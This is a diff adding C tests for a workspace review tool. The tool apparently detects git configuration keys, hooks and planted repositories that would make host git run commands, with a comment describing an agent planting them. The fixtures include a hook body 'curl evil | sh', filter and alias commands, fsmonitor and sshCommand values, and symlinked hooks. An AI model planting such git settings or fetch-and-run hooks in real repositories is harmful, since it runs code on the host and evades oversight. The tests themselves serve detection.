@@ -360,6 +360,260 @@ static void test_bounds(void)
 	free(big);
 }
 
+/* ---- git repositories (issue 8, hole 2: what host git would find) ---- */
+
+static bool has(char *const *v, size_t n, const char *s)
+{
+	for (size_t i = 0; i < n; i++)
+		if (!strcmp(v[i], s))
+			return true;
+	return false;
+}
+
+static bool has_prefix(char *const *v, size_t n, const char *s)
+{
+	for (size_t i = 0; i < n; i++)
+		if (!strncmp(v[i], s, strlen(s)))
+			return true;
+	return false;
+}
+
+static void test_gitcfg_runs(void)
+{
+	static const char cfg[] =
+		"[core]\n\tfsmonitor = ./evil\n\tbare = false\n\tpager = less\n\thooksPath = .husky\n"
+		"[core] editor = vim ; a comment\n"
+		"[filter \"x\"]\n\tclean = sh -c 'touch /tmp/p'\n\tsmudge = \"quoted \\\" value\"\n\trequired\n"
+		"[diff \"d\"] textconv = tc\n[diff]\n\texternal = ext\n"
+		"[alias]\n\tco = checkout\n\tevil = \"!sh -c x\"\n"
+		"[include]\n\tpath = ../other\n[includeIf \"gitdir:/x/\"]\n\tpath = y\n"
+		"[credential] helper = store\n[credential \"https://h\"] helper = h2\n"
+		"[gpg] program = g\n[gpg \"ssh\"] program = s\n"
+		"[core]\n\tfsmonitor = false\n"
+		"[remote \"o\"]\n\turl = x\n\tuploadpack = up\n"
+		"[submodule \"s\"] update = !cmd\n[submodule \"t\"] update = checkout\n"
+		"[pager] log = less -S\n[pager] diff = false\n"
+		"[Filter \"Y\"] Process = p\n"
+		"[core] sshCommand = ssh \\\n   -i key\n"
+		"# [core] askpass = commented\n"
+		"[broken\n\taskpass = not in a section\n"
+		"[merge \"m\"] driver = md %O %A %B\n"
+		"[hook \"h\"] command = hc\n";
+	char **v = NULL;
+	size_t n = 0;
+
+	CHECK(review_gitcfg_runs(cfg, strlen(cfg), "", &v, &n));
+	CHECK(has(v, n, "core.fsmonitor = ./evil"));
+	CHECK(has(v, n, "core.pager = less"));
+	CHECK(has(v, n, "core.hookspath = .husky"));
+	CHECK(has(v, n, "core.editor = vim"));
+	CHECK(has(v, n, "filter.x.clean = sh -c 'touch /tmp/p'"));
+	CHECK(has(v, n, "filter.x.smudge = quoted \" value"));
+	CHECK(has(v, n, "diff.d.textconv = tc"));
+	CHECK(has(v, n, "diff.external = ext"));
+	CHECK(has(v, n, "alias.evil = !sh -c x"));
+	CHECK(has(v, n, "include.path = ../other"));
+	CHECK(has(v, n, "includeif.gitdir:/x/.path = y"));
+	CHECK(has(v, n, "credential.helper = store"));
+	CHECK(has(v, n, "credential.https://h.helper = h2"));
+	CHECK(has(v, n, "gpg.program = g"));
+	CHECK(has(v, n, "gpg.ssh.program = s"));
+	CHECK(has(v, n, "remote.o.uploadpack = up"));
+	CHECK(has(v, n, "submodule.s.update = !cmd"));
+	CHECK(has(v, n, "pager.log = less -S"));
+	CHECK(has(v, n, "filter.Y.process = p"));   /* subsections keep their case */
+	CHECK(has(v, n, "core.sshcommand = ssh    -i key"));
+	CHECK(has(v, n, "merge.m.driver = md %O %A %B"));
+	CHECK(has(v, n, "hook.h.command = hc"));
+	CHECK(!has_prefix(v, n, "core.bare") && !has_prefix(v, n, "alias.co") && !has_prefix(v, n, "remote.o.url"));
+	CHECK(!has(v, n, "core.fsmonitor = false") && !has_prefix(v, n, "pager.diff"));
+	CHECK(!has_prefix(v, n, "submodule.t") && !has_prefix(v, n, "filter.x.required"));
+	CHECK(!has_prefix(v, n, "core.askpass") && !has_prefix(v, n, "broken"));
+	for (size_t i = 0; i < n; i++)
+		free(v[i]);
+	free(v);
+
+	/* bounded: a config of thousands of keys gives REVIEW_REPO_LIST_MAX and says so */
+	{
+		size_t len = 0, cap = 200000;
+		char *big = xmalloc(cap);
+		len += (size_t)snprintf(big, cap, "[alias]\n");
+		for (int i = 0; i < 2000 && len + 64 < cap; i++)
+			len += (size_t)snprintf(big + len, cap - len, "\ta%d = !x\n", i);
+		v = NULL;
+		n = 0;
+		CHECK(!review_gitcfg_runs(big, len, "", &v, &n));
+		CHECK_EQ(n, REVIEW_REPO_LIST_MAX);
+		for (size_t i = 0; i < n; i++)
+			free(v[i]);
+		free(v);
+		free(big);
+	}
+}
+
+static void rput(const char *base, const char *rel, const char *content, mode_t mode)
+{
+	char path[PATH_MAX * 2], dir[PATH_MAX * 2];
+	snprintf(path, sizeof(path), "%s/%s", base, rel);
+	snprintf(dir, sizeof(dir), "%s", path);
+	*strrchr(dir, '/') = 0;
+	CHECK(mkdir_p(dir, 0755) == 0);
+	CHECK(file_write_atomic(path, content, strlen(content), mode) == 0);
+}
+
+/* A git directory with config text cfg and hook named hook (may be NULL). */
+static void rgitdir(const char *base, const char *rel, const char *cfg, const char *hook)
+{
+	char p[PATH_MAX * 2];
+
+	snprintf(p, sizeof(p), "%s/HEAD", rel);
+	rput(base, p, "ref: refs/heads/main\n", 0644);
+	snprintf(p, sizeof(p), "%s/objects/ab/cdef", rel);
+	rput(base, p, "blob\n", 0644);
+	snprintf(p, sizeof(p), "%s/refs/heads/main", rel);
+	rput(base, p, "0000000000000000000000000000000000000000\n", 0644);
+	snprintf(p, sizeof(p), "%s/config", rel);
+	rput(base, p, cfg, 0644);
+	snprintf(p, sizeof(p), "%s/hooks/pre-push.sample", rel);
+	rput(base, p, "#!/bin/sh\n", 0755);
+	if (hook) {
+		snprintf(p, sizeof(p), "%s/hooks/%s", rel, hook);
+		rput(base, p, "#!/bin/sh\ncurl evil | sh\n", 0755);
+	}
+}
+
+static const struct review_repo *repo_find(const struct review_snap *s, const char *path)
+{
+	for (size_t i = 0; i < s->repos.n; i++)
+		if (!strcmp(s->repos.v[i].path, path))
+			return &s->repos.v[i];
+	return NULL;
+}
+
+static void test_repos(void)
+{
+	char ws[PATH_MAX + 8], sbdir[PATH_MAX + 8], p[PATH_MAX * 2];
+	struct review_snap base = { 0 }, cur = { 0 };
+	struct review_diff_item *items = NULL;
+	const struct review_repo *r;
+	const struct review_diff_item *it;
+	size_t n = 0;
+
+	snprintf(ws, sizeof(ws), "%s/rws", root);
+	snprintf(sbdir, sizeof(sbdir), "%s/rsb", root);
+	CHECK(mkdir(sbdir, 0700) == 0);
+	rgitdir(ws, ".git", "[core]\n\tfsmonitor = ./x\n", "pre-commit");
+	rgitdir(ws, ".git/modules/lib", "[filter \"x\"]\n\tclean = evil\n", "post-checkout");
+	rgitdir(ws, "nested/deep/.git", "[core]\n\thooksPath = /tmp/h\n", NULL);
+	rgitdir(ws, "vendor/b.git", "[core]\n\tbare = true\n[alias]\n\tx = !sh\n", "pre-receive");
+	rgitdir(ws, "node_modules/p/.git", "[core]\n\tfsmonitor = ./x\n", NULL);   /* not entered */
+	rput(ws, "notgit/HEAD", "ref: refs/heads/main\n", 0644);
+	rput(ws, "sub/.git", "gitdir: /elsewhere/x/.git\n", 0644);
+	snprintf(p, sizeof(p), "%s/ln", ws);
+	CHECK(mkdir(p, 0755) == 0);
+	snprintf(p, sizeof(p), "%s/ln/.git", ws);
+	CHECK(symlink("/tmp", p) == 0);
+	/* a bare repository whose hooks are a symlink to a host directory */
+	rgitdir(ws, "hl.git", "", NULL);
+	snprintf(p, sizeof(p), "%s/hl.git/hooks", ws);
+	CHECK(rm_rf(p) == 0 && symlink("/etc", p) == 0);
+
+	CHECK(review_baseline_take(sbdir, ws, NULL, &base) == 0);
+	CHECK(base.hits == 0);
+	r = repo_find(&base, ".git");
+	CHECK(r && !strcmp(r->kind, "repository") && r->n_hooks == 1 && !strcmp(r->hooks[0], "pre-commit"));
+	CHECK(r && has(r->runs, r->n_runs, "core.fsmonitor = ./x"));
+	r = repo_find(&base, ".git/modules/lib");
+	CHECK(r && !strcmp(r->kind, "submodule") && r->n_hooks == 1 && has(r->runs, r->n_runs, "filter.x.clean = evil"));
+	r = repo_find(&base, "nested/deep/.git");
+	CHECK(r && !strcmp(r->kind, "repository") && r->n_hooks == 0 && has(r->runs, r->n_runs, "core.hookspath = /tmp/h"));
+	r = repo_find(&base, "vendor/b.git");
+	CHECK(r && !strcmp(r->kind, "bare repository") && r->n_hooks == 1 && !strcmp(r->hooks[0], "pre-receive"));
+	CHECK(r && has(r->runs, r->n_runs, "alias.x = !sh"));
+	r = repo_find(&base, "sub/.git");
+	CHECK(r && !strcmp(r->kind, "gitdir file") && r->points_to && !strcmp(r->points_to, "gitdir: /elsewhere/x/.git"));
+	r = repo_find(&base, "ln/.git");
+	CHECK(r && !strcmp(r->kind, "gitdir symlink") && r->points_to && !strcmp(r->points_to, "/tmp"));
+	r = repo_find(&base, "hl.git");
+	CHECK(r && r->error && strstr(r->error, "hooks") && r->n_hooks == 0);   /* never read through */
+	CHECK(!repo_find(&base, "node_modules/p/.git") && !repo_find(&base, "notgit"));
+	CHECK_EQ(base.repos.n, 7);
+	/* a bare repository's config and hooks are entries, under the git rules; its
+	 * objects are not walked */
+	CHECK(find(&base, "vendor/b.git/config") && find(&base, "vendor/b.git/hooks/pre-receive"));
+	CHECK(find(&base, "vendor/b.git/config") && !strcmp(find(&base, "vendor/b.git/config")->rule->kind, "git"));
+	CHECK(!find(&base, "vendor/b.git/objects/ab/cdef") && !find(&base, "vendor/b.git/HEAD"));
+	CHECK(find(&base, "hl.git/hooks"));   /* the symlink itself */
+
+	/* the agent plants a bare repository and a worktree's commondir in the main one */
+	rgitdir(ws, "tools/x.git", "[core]\n\tfsmonitor = ./y\n", NULL);
+	rput(ws, ".git/worktrees/other/commondir", "/tmp/evil\n", 0644);
+	rput(ws, ".git/worktrees/usual/commondir", "../..\n", 0644);   /* what git writes: not noise */
+	rput(ws, ".git/worktrees/other/config.worktree", "[core]\n\tfsmonitor = ./z\n", 0644);
+	rput(ws, ".git/worktrees/other/index", "not reviewed\n", 0644);
+	rput(ws, ".git/info/attributes", "* filter=x\n", 0644);
+	CHECK(review_scan(ws, &cur) == 0);
+	r = repo_find(&cur, "tools/x.git");
+	CHECK(r && has(r->runs, r->n_runs, "core.fsmonitor = ./y"));
+	r = repo_find(&cur, ".git/worktrees/other");
+	CHECK(r == NULL);   /* no HEAD: git would not take it for a git directory */
+	review_compare(&base, &cur, &items, &n);
+	it = find_item(items, n, "tools/x.git/config");
+	CHECK(it && it->changes == RC_ADDED);
+	it = find_item(items, n, ".git/worktrees/other/commondir");
+	CHECK(it && it->changes == RC_ADDED);
+	it = find_item(items, n, ".git/worktrees/other/config.worktree");
+	CHECK(it && it->changes == RC_ADDED);
+	CHECK(find_item(items, n, ".git/info/attributes") != NULL);
+	CHECK(find_item(items, n, ".git/worktrees/other/index") == NULL);
+	CHECK(find_item(items, n, ".git/worktrees/usual/commondir") == NULL);
+	free(items);
+	review_snap_free(&base);
+	review_snap_free(&cur);
+}
+
+/* The workspace itself a git directory; and more repositories than the bound. */
+static void test_repos_root_and_bound(void)
+{
+	char ws[PATH_MAX + 8], p[PATH_MAX * 2];
+	struct review_snap s = { 0 };
+	const struct review_repo *r;
+
+	snprintf(ws, sizeof(ws), "%s/bare-ws", root);
+	rgitdir(ws, ".", "[core]\n\tbare = true\n\tsshCommand = evil\n", "update");
+	CHECK(review_scan(ws, &s) == 0);
+	r = repo_find(&s, ".");
+	CHECK(r && !strcmp(r->kind, "bare repository") && has(r->runs, r->n_runs, "core.sshcommand = evil"));
+	CHECK(find(&s, "config") && find(&s, "hooks/update") && !find(&s, "objects/ab/cdef"));
+	review_snap_free(&s);
+
+	/* a config past its bound: what was read is listed, and it says there is more */
+	{
+		size_t cap = REVIEW_REPO_CONFIG_MAX + 4096, len = 0;
+		char *big = xmalloc(cap + 1);
+		len += (size_t)snprintf(big, cap, "[core]\n\tfsmonitor = ./early\n");
+		while (len + 16 < cap)
+			len += (size_t)snprintf(big + len, cap - len, "# padding....\n");
+		snprintf(ws, sizeof(ws), "%s/bigcfg", root);
+		rgitdir(ws, "x.git", big, NULL);
+		free(big);
+		CHECK(review_scan(ws, &s) == 0);
+		r = repo_find(&s, "x.git");
+		CHECK(r && r->truncated && has(r->runs, r->n_runs, "core.fsmonitor = ./early"));
+		review_snap_free(&s);
+	}
+
+	snprintf(ws, sizeof(ws), "%s/many", root);
+	for (int i = 0; i < REVIEW_REPOS_MAX + 3; i++) {
+		snprintf(p, sizeof(p), "%s/r%d/.git", ws, i);
+		CHECK(mkdir_p(p, 0755) == 0);
+	}
+	CHECK(review_scan(ws, &s) == 0);
+	CHECK_EQ(s.repos.n, REVIEW_REPOS_MAX);
+	CHECK(s.repos.full && (s.hits & REVIEW_HIT_REPOS));
+	review_snap_free(&s);
+}
+
 int main(void)
 {
 	char tmpl[] = "/tmp/sbx-test-review-XXXXXX";
@@ -375,6 +629,9 @@ int main(void)
 	test_diff();
 	test_scan_compare();
 	test_bounds();
+	test_gitcfg_runs();
+	test_repos();
+	test_repos_root_and_bound();
 	CHECK(rm_rf(root) == 0);
 	TEST_DONE();
 }
